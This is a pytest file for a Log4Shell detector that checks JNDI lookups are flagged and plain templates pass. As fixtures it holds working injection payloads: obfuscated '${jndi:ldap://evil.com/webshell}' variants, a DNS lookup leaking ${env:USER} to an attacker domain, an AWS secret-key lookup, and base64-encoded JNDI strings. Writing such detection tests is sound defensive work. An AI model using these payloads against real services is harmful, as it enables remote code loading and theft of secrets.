"""Log4Shell: lookups are evaluated, so obfuscated spellings are found and templates pass."""
from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extauthz.decode import Input
from extauthz.detect.log4shell import Log4Shell
from extauthz.detect.prefilter import Prefilter
from extauthz.finding import Severity
from extauthz.lang.lookup import MAX_DEPTH, evaluate

DETECTOR = Log4Shell()
PREFILTER = Prefilter([DETECTOR])


def scan(value: str):
    if not PREFILTER.candidates(value):
        return []
    return list(DETECTOR.scan_input(Input("header", "user-agent", value)))


@pytest.mark.parametrize("value", [
    "${jndi:ldap://evil.com/a}",
    "Mozilla ${jndi:rmi://1.2.3.4:1099/x}",
    "${${lower:j}${lower:n}${lower:d}i:ldap://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.com/webshell}",
    "${${env:FOO:-j}ndi:ldap://evil.com/webshell}",
    "${${upper:j}ndi:ldap://x/}",
    "${${date:'j'}${date:'n'}di:dns://x.y}",
    "$${env:something:-${env:something:-$}{jndi:ldap://evil.com/webshell}}}",
    "${:1337:-x$}{jndi:ldap://evil.com/webshell}",
    "${jNdI:LdAp://x/}",
    "${jndi:dns://${env:USER}.attacker.tld/a}",
    "${${lower:${lower:j}}ndi:iiop://x/}",
])
def test_jndi_lookups_are_critical(value):
    (f,) = scan(value)
    assert (f.cls, f.rule, f.severity) == ("log4shell", "log4shell.jndi-lookup", Severity.CRITICAL), value


def test_unknown_scheme_is_high():
    (f,) = scan("${jndi:foo:bar}")
    assert f.severity == Severity.HIGH


@pytest.mark.parametrize("value", ["${env:AWS_SECRET_ACCESS_KEY}", "${sys:user.name}", "${lower:ABC}", "${::-x}"])
def test_lookups_without_jndi_are_medium(value):
    (f,) = scan(value)
    assert (f.rule, f.severity) == ("log4shell.lookup", Severity.MEDIUM)


@pytest.mark.parametrize("value", [
    "Hello ${name}, your order ${order.id} ships today", "price: ${amount}", "${", "$}{", "{{x}}",
    "`${a}`", "jndi is a Java API", "costs $5 {approx}",
])
def test_templates_and_prose_pass(value):
    assert scan(value) == []


def test_jndi_text_outside_lookup_is_medium():
    (f,) = scan("jndi:ldap://evil.com/x")
    assert (f.rule, f.severity) == ("log4shell.jndi-text", Severity.MEDIUM)


def test_encoded_lookup_opening_is_high():
    (f,) = scan("$&LBRACE;jndi:ldap://evil.com/webshell}")
    assert (f.rule, f.severity) == ("log4shell.jndi-text", Severity.HIGH)


def test_evaluator_details():
    ev = evaluate("${${lower:J}${::-n}di:ldap://h/a}")
    assert ev.jndi and ev.jndi[0].scheme == "ldap" and ev.jndi[0].nested
    assert evaluate("${upper:abc}-${env:X:-dflt}").result == "ABC-dflt"


def test_limits():
    deep = "${" * (MAX_DEPTH + 5) + "jndi:ldap://x" + "}" * (MAX_DEPTH + 5)
    assert evaluate(deep).truncated
    for v in ["${" * 5000, "${a}" * 3000, "${" + "{" * 8000, "${${" * 2000 + "}}" * 2000]:
        t0 = time.perf_counter()
        evaluate(v)
        assert time.perf_counter() - t0 < 0.5


@given(st.text(alphabet=st.sampled_from(list("${}:-jndilowerupenvdat'x/ ")), max_size=300))
@settings(max_examples=400, deadline=None)
def test_property_never_raises_and_is_deterministic(value):
    a, b = evaluate(value), evaluate(value)
    assert (a.result, len(a.jndi), a.prefixes) == (b.result, len(b.jndi), b.prefixes)
    DETECTOR.scan_input(Input("query", "q", value))


@pytest.mark.parametrize("value", [
    "${base64:JHtqbmRpOmxkYXA6Ly94L2F9}",  # ${jndi:ldap://x/a}
    "${base64:JHtqbmRpOnJtaTovL2gvYX0=}",  # ${jndi:rmi://h/a}
])
def test_base64_lookups_are_decoded_and_evaluated(value):
    ev = evaluate(value)
    assert ev.jndi and ev.jndi[0].scheme in ("ldap", "rmi"), ev


@pytest.mark.parametrize("value", ["${base64:aGVsbG8=}", "${base64:!!!not base64}", "${base64:" + "A" * 9000 + "}"])
def test_harmless_or_broken_base64_lookups_do_not_jndi(value):
    assert not evaluate(value).jndi


@pytest.mark.parametrize("value", [
    "${${base64:JHtqbmRpOmxkYXA6Ly94L2F9}}",  # the name is ${jndi:ldap://x/a} once the inner lookup ran
    "${${lower:${base64:JHtqbmRpOmxkYXA6Ly94L2F9}}}",
])
def test_lookup_names_built_by_lookups_are_substituted_again(value):
    ev = evaluate(value)
    assert ev.jndi and ev.jndi[0].scheme == "ldap" and ev.jndi[0].nested, ev
